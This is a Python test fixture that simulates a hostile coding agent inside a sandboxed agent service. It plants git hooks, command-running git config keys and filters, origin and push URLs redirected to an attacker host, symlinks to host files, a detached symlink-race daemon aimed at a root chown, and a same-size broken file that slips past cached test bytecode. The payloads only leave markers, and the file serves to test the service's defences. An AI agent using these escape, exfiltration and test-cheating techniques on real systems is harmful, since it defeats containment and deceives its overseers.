#!/usr/bin/env python3
"""A scripted hostile agent: honest TDD work (as ``fake_agent.py --mode honest`` does it),
plus traps planted in the workspace for the service.

    python3 /workspace/.hostile_agent.py --traps hooks,config,... --marker-dir DIR
        [--host-path FILE] [--attacker-url URL] [--flood-mb N] PROMPT

Every trap that executes something does one thing first: it leaves a *marker*, a file named
after the trap in ``--marker-dir`` holding ``id`` and ``env`` of whoever ran it. That
directory is a directory of the service's host; inside the container the same path is just
the container's own ``/tmp``, where it does not exist, so a trap that runs in the sandbox
leaves nothing and then behaves (hooks exit 0, filters pass the content through), so that
the honest work still commits there. A marker on the host therefore means that the service
ran the agent's content outside the sandbox, and its ``env`` shows what that process held.

Traps (``--traps``, comma-separated; ``all`` is every trap but ``stale-bytecode``):

- ``hooks``: ``.git/hooks/<name>`` for every hook in ``HOOKS`` (marker ``hook-<name>``);
- ``hookspath``: ``core.hooksPath`` → ``.git/hookspath/`` with the same hooks
  (``hookspath-<name>``); while it is set, git runs these instead of ``.git/hooks``;
- ``config``: ``core.fsmonitor``, ``core.pager``, ``core.askPass``, ``core.editor``,
  ``gpg.program`` with ``commit.gpgsign=true``, ``credential.helper``;
- ``include``: ``include.path`` → ``.git/hostile.inc`` holding ``diff.external`` and
  ``core.sshCommand``;
- ``attributes``: ``.gitattributes`` (and ``.git/info/attributes``) giving ``*.py`` a
  ``filter`` with ``clean``/``smudge`` commands and a ``diff`` driver with ``textconv``, and
  every other file a ``filter`` with a long-running ``process``;
- ``remote`` (needs ``--attacker-url``): origin's ``url`` and ``pushurl`` (an ``ext::``
  command with ``protocol.allow=always``, a local path that runs ``receivepack``, then the
  attacker's HTTP URL), ``url.<attacker>.insteadOf``/``pushInsteadOf`` for the prefix of the
  real origin URL, ``http.proxy``, ``remote.origin.receivepack``/``uploadpack`` commands,
  and a URL-specific ``credential.<attacker>.helper``;
- ``fifo``: ``tests/fifo_trap`` is a FIFO;
- ``links``: ``tests/zero_trap`` → ``/dev/zero``, ``tests/host_link`` → ``--host-path``;
- ``flood``: ``tests/test_flood.py``, a passing test that prints ``--flood-mb`` MiB;
- ``swapper``: a daemon left running in the container that keeps swapping directories
  ``.hostile/swap/dNN`` for links to the directory of ``--host-path`` (a recursive chown by
  root on the host would go through them to the host's files: the file and the filler
  names ``f0000``… the test puts beside it), reporting in ``.hostile/swapper.json`` and
  stopping when ``.hostile/stop`` appears;
- ``stale-bytecode``: in green, after the honest implementation, it runs the tests itself
  (so ``__pycache__`` holds the good bytecode); in refactor it writes a *broken*
  ``feature.py`` of exactly the same size and gives it back its modification time, so that
  a cached ``.pyc`` would still pass.

The planted files never reach a commit made by ``git add --all``: the agent lists them in
``.git/info/exclude``; the run's branch must hold the honest files only.

Standard library only: it runs in agentdock-base (Debian bookworm, git, python3).
"""

from __future__ import annotations

import argparse
import ctypes
import importlib.util
import json
import os
import re
import subprocess
import sys
import time
from pathlib import Path
from types import ModuleType
from urllib.parse import urlsplit

TRAPS = ("hooks", "hookspath", "config", "include", "attributes", "remote", "fifo", "links", "flood", "swapper")
MODES = ("stale-bytecode",)
HOOKS = (
    "pre-commit",
    "prepare-commit-msg",
    "commit-msg",
    "post-commit",
    "pre-merge-commit",
    "post-checkout",
    "post-merge",
    "post-rewrite",
    "reference-transaction",
    "pre-push",
    "pre-auto-gc",
    "post-index-change",
    "pre-rebase",
    "push-to-checkout",
)
HOOKS_READING_STDIN = frozenset({"pre-push", "post-rewrite", "reference-transaction"})


def git_dir() -> Path:
    """The repository's common git directory: a run works in a worktree, whose `.git` is a file;
    hooks, config and info live in the main repository's `.git`."""
    out = subprocess.run(["git", "rev-parse", "--git-common-dir"], capture_output=True, text=True, check=False)
    return Path(out.stdout.strip() or ".git").resolve()


GIT = git_dir() if __name__ == "__main__" else Path(".git")
# As written into the config: relative to the top of the main working tree (where the host
# once ran git); the files themselves go into the common git directory.
HOOKSPATH_DIR = ".git/hookspath"
SCRIPTS_DIR = ".git/hostile"
INCLUDE_FILE = "hostile.inc"  # relative to .git/, as include.path is to the config file
SWAP_DIR = ".hostile/swap"
SWAP_COUNT = 4
SWAP_FILLER = 1000  # names of files in the host's directory: a walk over them is a wide window
SWAPPER_STATE = ".hostile/swapper.json"
SWAPPER_STOP = ".hostile/stop"
SWAPPER_LIFETIME_S = 900.0
FIFO = "tests/fifo_trap"
ZERO_LINK = "tests/zero_trap"
HOST_LINK = "tests/host_link"
FLOOD_TEST = "tests/test_flood.py"
EXCLUDED = (
    ".gitattributes",
    ".hostile/",
    FIFO,
    ZERO_LINK,
    HOST_LINK,
    FLOOD_TEST,
    ".hostile_agent.py",
    ".fake_agent.py",
    ".agent-prompts/",
)
# Broken on purpose, and of exactly the size of fake_agent.IMPLEMENTATION.
BROKEN_IMPLEMENTATION = "def double(x):\n    return x * 3\n"
ANY_OWNER = "-c 'safe.directory=*'"  # in commands that may run as root on the host
SAFE_PATH = re.compile(r"^/[A-Za-z0-9_./-]+$")
TEST_COMMAND = [sys.executable, "-m", "unittest", "discover", "-s", "tests", "-t", "."]
FLOOD = '''"""Passes, after printing {mib} MiB: the gate's output capture must stay bounded."""

import sys
import unittest


class Flood(unittest.TestCase):
    def test_flood(self):
        line = b"flood " * 170 + b"\\n"
        chunk = line * (1024 * 1024 // len(line) + 1)
        chunk = chunk[: 1024 * 1024]
        for _ in range({mib}):
            sys.stdout.buffer.write(chunk)
        sys.stdout.flush()
'''

# git's long-running filter protocol (gitattributes(5)), passing every blob through as it is:
# a process filter that fails is fatal to `git add`, and the honest work must still commit.
FILTER_PROCESS = r"""#!/usr/bin/env python3
import sys

IN, OUT = sys.stdin.buffer, sys.stdout.buffer


def read_packet():
    size = int(IN.read(4), 16)
    return None if size == 0 else IN.read(size - 4)


def read_list():
    items = []
    while (packet := read_packet()) is not None:
        items.append(packet)
    return items


def write(*packets):
    for packet in packets:
        if packet is None:
            OUT.write(b"0000")
        else:
            OUT.write(b"%04x" % (len(packet) + 4) + packet)
    OUT.flush()


read_list()
write(b"git-filter-server\n", b"version=2\n", None)
read_list()
write(b"capability=clean\n", b"capability=smudge\n", None)
while True:
    try:
        read_list()
    except ValueError:
        break
    content = b"".join(read_list())
    write(b"status=success\n", None)
    write(*(content[i : i + 65516] for i in range(0, len(content), 65516)), None, None)
"""

# Every marker a trap can leave, by trap (the test's controls check the ones they trigger).
MARKERS = {
    "hooks": tuple(f"hook-{name}" for name in HOOKS),
    "hookspath": tuple(f"hookspath-{name}" for name in HOOKS),
    "config": ("fsmonitor", "pager", "askpass", "editor", "gpg-program", "credential-helper"),
    "include": ("diff-external", "ssh-command"),
    "attributes": ("filter-clean", "filter-smudge", "filter-process", "textconv"),
    "remote": ("ext-transport", "receivepack", "uploadpack", "credential-helper-url"),
}


def say(text: str) -> None:
    print(text, flush=True)


def load_fake_agent() -> ModuleType:
    """fake_agent.py beside this file (``.fake_agent.py`` where the test copied both into a
    workspace): its honest steps are the honest work here."""
    here = Path(__file__).resolve().parent
    for name in ("fake_agent.py", ".fake_agent.py"):
        path = here / name
        if path.is_file():
            spec = importlib.util.spec_from_file_location("fake_agent", path)
            assert spec is not None and spec.loader is not None
            module = importlib.util.module_from_spec(spec)
            spec.loader.exec_module(module)
            return module
    raise SystemExit(f"hostile-agent: no fake_agent.py beside {__file__}")


# --- what a trap runs ------------------------------------------------------------------------


def mark(marker_dir: str, name: str, then: str = ":") -> str:
    """A shell command that leaves marker ``name`` and then runs ``then`` (which receives
    git's arguments, where git gives any: git runs such commands as ``sh -c 'CMD "$@"'``).
    Where the marker directory does not exist, the redirection fails quietly and nothing
    runs (not a subshell: dash runs ``( … ) >bad`` anyway, onto the command's stdout)."""
    return f"{{ {{ id; env; }} >'{marker_dir}/{name}'; }} 2>/dev/null; {then}"


def script(marker_dir: str, name: str, body: str = "exit 0") -> str:
    return f"#!/bin/sh\n{mark(marker_dir, name)}\n{body}\n"


def write_executable(path: Path, text: str) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text)
    path.chmod(0o755)


def git_config(*args: str) -> None:
    """Write the workspace's own .git/config (a plain file write: nothing runs)."""
    subprocess.run(["git", "config", "--file", str(GIT / "config"), *args], check=True)


def git_config_get(key: str) -> str:
    found = subprocess.run(
        ["git", "config", "--file", str(GIT / "config"), "--get", key], capture_output=True, text=True, check=False
    )
    return found.stdout.strip()


def ext_url(command: str) -> str:
    """An ``ext::`` URL that runs ``sh -c COMMAND`` (``% `` is a space inside an argument)."""
    return "ext::sh -c " + command.replace("%", "%%").replace(" ", "% ")


# --- the traps ---------------------------------------------------------------------------------


def plant_hooks(directory: Path, marker_dir: str, prefix: str) -> None:
    for name in HOOKS:
        body = "cat >/dev/null\nexit 0" if name in HOOKS_READING_STDIN else "exit 0"
        write_executable(directory / name, script(marker_dir, f"{prefix}-{name}", body))


def plant_config(marker_dir: str) -> None:
    scripts = GIT / "hostile"
    # git checks only that gpg's status (on fd 2) says SIG_CREATED; the signature is not verified.
    gpg = (
        "cat >/dev/null\n"
        "printf '\\n[GNUPG:] SIG_CREATED D 1 8 00 0 0000000000000000000000000000000000000000\\n' >&2\n"
        "printf -- '-----BEGIN PGP SIGNATURE-----\\n\\naG9zdGlsZQ==\\n-----END PGP SIGNATURE-----\\n'\n"
        "exit 0"
    )
    write_executable(scripts / "gpg", script(marker_dir, "gpg-program", gpg))
    write_executable(scripts / "askpass", script(marker_dir, "askpass", "echo hostile"))
    git_config("core.fsmonitor", mark(marker_dir, "fsmonitor", "false"))
    git_config("core.pager", mark(marker_dir, "pager", "cat"))
    git_config("core.askPass", f"{SCRIPTS_DIR}/askpass")  # run without a shell: a path, relative to the top
    git_config("core.editor", mark(marker_dir, "editor", ":"))
    git_config("gpg.program", f"{SCRIPTS_DIR}/gpg")
    git_config("commit.gpgSign", "true")
    git_config("tag.gpgSign", "true")
    # Helpers that answer nothing: git asks the next one, then core.askPass.
    git_config("credential.helper", f"!f() {{ {mark(marker_dir, 'credential-helper')}; }}; f")


def plant_include(marker_dir: str) -> None:
    include = GIT / INCLUDE_FILE
    include.write_text("")
    for key, value in (
        ("diff.external", mark(marker_dir, "diff-external", ":")),
        ("core.sshCommand", mark(marker_dir, "ssh-command", "false")),
    ):
        subprocess.run(["git", "config", "--file", str(include), key, value], check=True)
    git_config("include.path", INCLUDE_FILE)


def plant_attributes(marker_dir: str) -> None:
    attributes = "* filter=hostileproc\n*.py filter=hostile diff=hostile\n"
    Path(".gitattributes").write_text(attributes)
    info = GIT / "info"
    info.mkdir(exist_ok=True)
    (info / "attributes").write_text(attributes)
    git_config("filter.hostile.clean", mark(marker_dir, "filter-clean", "cat"))
    git_config("filter.hostile.smudge", mark(marker_dir, "filter-smudge", "cat"))
    write_executable(GIT / "hostile" / "filter_process.py", FILTER_PROCESS)
    # Found through git itself: in the main tree and in a run's worktree (whose .git is a file).
    process = mark(
        marker_dir, "filter-process", 'exec python3 "$(git rev-parse --git-common-dir)/hostile/filter_process.py"'
    )
    git_config("filter.hostileproc.process", process)
    git_config("diff.hostile.textconv", mark(marker_dir, "textconv", "cat"))


def plant_remote(marker_dir: str, attacker_url: str) -> None:
    attacker = attacker_url.rstrip("/")
    real = git_config_get("remote.origin.url")
    parts = urlsplit(real)
    real_prefix = f"{parts.scheme}://{parts.netloc}/" if parts.scheme and parts.netloc else "https://github.com/"
    git_config("remote.origin.url", f"{attacker}/url.git")
    subprocess.run(
        ["git", "config", "--file", str(GIT / "config"), "--unset-all", "remote.origin.pushurl"], check=False
    )
    # A push goes to every pushurl in turn, and a failure is fatal to the rest: the first two
    # push into the workspace's own repository (nothing to do: they succeed, whoever owns it),
    # the last one goes to the attacker.
    for pushurl in (
        ext_url(mark(marker_dir, "ext-transport", f"exec git {ANY_OWNER} receive-pack .")),
        ".",  # a local path: git runs receivepack through a shell
        f"{attacker}/pushurl.git",
    ):
        git_config("--add", "remote.origin.pushurl", pushurl)
    git_config("remote.origin.receivepack", mark(marker_dir, "receivepack", f"exec git {ANY_OWNER} receive-pack"))
    git_config("remote.origin.uploadpack", mark(marker_dir, "uploadpack", f"exec git {ANY_OWNER} upload-pack"))
    git_config("remote.origin.proxy", attacker)
    git_config("protocol.allow", "always")
    git_config("protocol.ext.allow", "always")
    git_config(f"url.{attacker}/insteadof/.insteadOf", real_prefix)
    git_config(f"url.{attacker}/pushinsteadof/.pushInsteadOf", real_prefix)
    git_config("http.proxy", attacker)
    git_config(f"credential.{attacker}.helper", f"!f() {{ {mark(marker_dir, 'credential-helper-url')}; }}; f")
    say(f"hostile-agent: origin now points at {attacker} (it was {real or 'unset'})")


def plant_fifo() -> None:
    path = Path(FIFO)
    path.parent.mkdir(exist_ok=True)
    if not path.is_fifo():
        path.unlink(missing_ok=True)
        os.mkfifo(path)


def plant_links(host_path: str) -> None:
    for name, target in ((ZERO_LINK, "/dev/zero"), (HOST_LINK, host_path)):
        path = Path(name)
        path.parent.mkdir(exist_ok=True)
        if path.is_symlink() or path.exists():
            path.unlink()
        path.symlink_to(target)


def plant_flood(mib: int) -> None:
    Path(FLOOD_TEST).write_text(FLOOD.format(mib=mib))


def exclude_planted() -> None:
    exclude = GIT / "info" / "exclude"
    exclude.parent.mkdir(exist_ok=True)
    present = exclude.read_text().splitlines() if exclude.exists() else []
    missing = [line for line in EXCLUDED if line not in present]
    if missing:
        with exclude.open("a") as out:
            out.write("".join(f"{line}\n" for line in missing))


# --- the swapper -------------------------------------------------------------------------------


def swapper_alive() -> bool:
    try:
        state = json.loads(Path(SWAPPER_STATE).read_text())
        os.kill(int(state["pid"]), 0)
    except (OSError, ValueError, KeyError):
        return False
    return not state.get("stopped", False)


def start_swapper(host_path: str) -> None:
    """Leave a daemon behind (its own session, so ending the agent's process group spares it)."""
    if swapper_alive():
        return
    for path in (Path(SWAPPER_STATE), Path(SWAPPER_STOP)):
        path.unlink(missing_ok=True)
    first = os.fork()
    if first:
        os.waitpid(first, 0)
        say("hostile-agent: left a swapper running")
        return
    os.setsid()
    if os.fork():
        os._exit(0)
    devnull = os.open(os.devnull, os.O_RDWR)
    for fd in (0, 1, 2):
        os.dup2(devnull, fd)
    try:
        swap(host_path)
    finally:
        os._exit(0)


def exchange(first: Path, second: Path) -> None:
    """Swap two names atomically (renameat2's RENAME_EXCHANGE): both always exist."""
    libc = ctypes.CDLL(None, use_errno=True)
    at_fdcwd, rename_exchange = -100, 2
    if libc.renameat2(at_fdcwd, os.fsencode(first), at_fdcwd, os.fsencode(second), rename_exchange) != 0:
        code = ctypes.get_errno()
        raise OSError(code, os.strerror(code), str(first))


def swap(host_path: str) -> None:
    """Pairs ``dNN`` (a directory) and ``lNN`` (a link to the host file's directory) trade
    names over and over. Each directory holds the names of that host directory's files
    (the host file, and ``SWAP_FILLER`` names the test gives it too). Root walking the
    workspace lists ``dNN`` while it is a directory, then lstats and chowns ``dNN/<name>``
    for each entry: once the names have traded, those paths resolve, through the link, to
    the host's files, and every one of them exists, so the walk goes on."""
    target = os.path.dirname(host_path)
    names = [os.path.basename(host_path), *filler_names()]
    base = Path(SWAP_DIR)
    base.mkdir(parents=True, exist_ok=True)
    pairs = [(base / f"d{i:02d}", base / f"l{i:02d}") for i in range(SWAP_COUNT)]
    for directory, link in pairs:
        directory.mkdir(exist_ok=True)
        for name in names:
            (directory / name).write_text("bait\n")
        if not link.is_symlink():
            link.symlink_to(target)
    state = Path(SWAPPER_STATE)
    started = time.time()
    swaps = 0
    last_report = 0.0

    def report(stopped: bool = False) -> None:
        partial = state.with_suffix(".tmp")
        info = {"pid": os.getpid(), "target": target, "started": started, "last": time.time()}
        partial.write_text(json.dumps({**info, "swaps": swaps, "stopped": stopped}))
        partial.replace(state)

    deadline = time.monotonic() + SWAPPER_LIFETIME_S
    while time.monotonic() < deadline and not os.path.exists(SWAPPER_STOP):
        for directory, link in pairs:
            exchange(directory, link)
            swaps += 1
        time.sleep(0.001)
        if time.monotonic() - last_report > 0.25:
            last_report = time.monotonic()
            report()
    for directory, link in pairs:  # leave every dNN a directory
        if directory.is_symlink():
            exchange(directory, link)
    report(stopped=True)


def filler_names() -> list[str]:
    return [f"f{i:04d}" for i in range(SWAP_FILLER)]


# --- steps -----------------------------------------------------------------------------------


def plant(traps: set[str], args: argparse.Namespace) -> None:
    marker_dir = args.marker_dir
    if not SAFE_PATH.match(marker_dir):
        raise SystemExit(f"hostile-agent: --marker-dir must be a plain absolute path, not {marker_dir!r}")
    exclude_planted()
    if "hooks" in traps:
        plant_hooks(GIT / "hooks", marker_dir, "hook")
    if "hookspath" in traps:
        plant_hooks(GIT / "hookspath", marker_dir, "hookspath")
        git_config("core.hooksPath", HOOKSPATH_DIR)  # relative: to the top of the working tree
    if "config" in traps:
        plant_config(marker_dir)
    if "include" in traps:
        plant_include(marker_dir)
    if "attributes" in traps:
        plant_attributes(marker_dir)
    if "remote" in traps:
        if not args.attacker_url:
            raise SystemExit("hostile-agent: the remote trap needs --attacker-url")
        plant_remote(marker_dir, args.attacker_url)
    if "fifo" in traps:
        plant_fifo()
    if {"links", "swapper"} & traps and not (args.host_path and SAFE_PATH.match(args.host_path)):
        raise SystemExit("hostile-agent: the links and swapper traps need a plain absolute --host-path")
    if "links" in traps:
        plant_links(args.host_path)
    if "flood" in traps:
        plant_flood(args.flood_mb)
    if "swapper" in traps:
        start_swapper(args.host_path)
    say(f"hostile-agent: planted {', '.join(sorted(traps))}")


def stale_bytecode(fake: ModuleType, step: str, attempt: int) -> None:
    if step == "green":
        fake.work(step, attempt)
        ran = subprocess.run(TEST_COMMAND, capture_output=True, text=True, check=False)
        cached = sorted(str(p) for p in Path("__pycache__").glob("feature.*.pyc"))
        say(f"hostile-agent: ran the tests myself (exit {ran.returncode}); cached {cached}")
    elif step == "refactor":
        path = Path("feature.py")
        before = path.stat()
        assert len(BROKEN_IMPLEMENTATION.encode()) == before.st_size, "the broken file must keep the size"
        path.write_text(BROKEN_IMPLEMENTATION)
        os.utime(path, ns=(before.st_atime_ns, before.st_mtime_ns))
        say("hostile-agent: broke feature.py, same size, same mtime")
    else:
        fake.work(step, attempt)


def main() -> int:
    parser = argparse.ArgumentParser()
    parser.add_argument("--traps", default="all", help="comma-separated: " + ", ".join((*TRAPS, *MODES, "all")))
    parser.add_argument("--marker-dir", required=True)
    parser.add_argument("--host-path", default="")
    parser.add_argument("--attacker-url", default="")
    parser.add_argument("--flood-mb", type=int, default=100)
    parser.add_argument("prompt")
    args = parser.parse_args()
    traps = {t for t in args.traps.split(",") if t}
    if "all" in traps:
        traps = (traps - {"all"}) | set(TRAPS)
    unknown = traps - set(TRAPS) - set(MODES)
    if unknown:
        parser.error(f"unknown traps: {', '.join(sorted(unknown))}")
    fake = load_fake_agent()
    step = os.environ.get("AGENTDOCK_STEP", "?")
    attempt = int(os.environ.get("AGENTDOCK_ATTEMPT", "1"))
    prompts = Path(".agent-prompts")
    prompts.mkdir(exist_ok=True)
    (prompts / f"{step}-{attempt}.txt").write_text(args.prompt)
    say(f"hostile-agent: step {step}, attempt {attempt}, traps {','.join(sorted(traps))}")
    if step == "red":
        plant(traps - set(MODES), args)
    if "stale-bytecode" in traps:
        stale_bytecode(fake, step, attempt)
    else:
        fake.work(step, attempt)
    say("hostile-agent: done")
    return 0


if __name__ == "__main__":
    sys.exit(main())
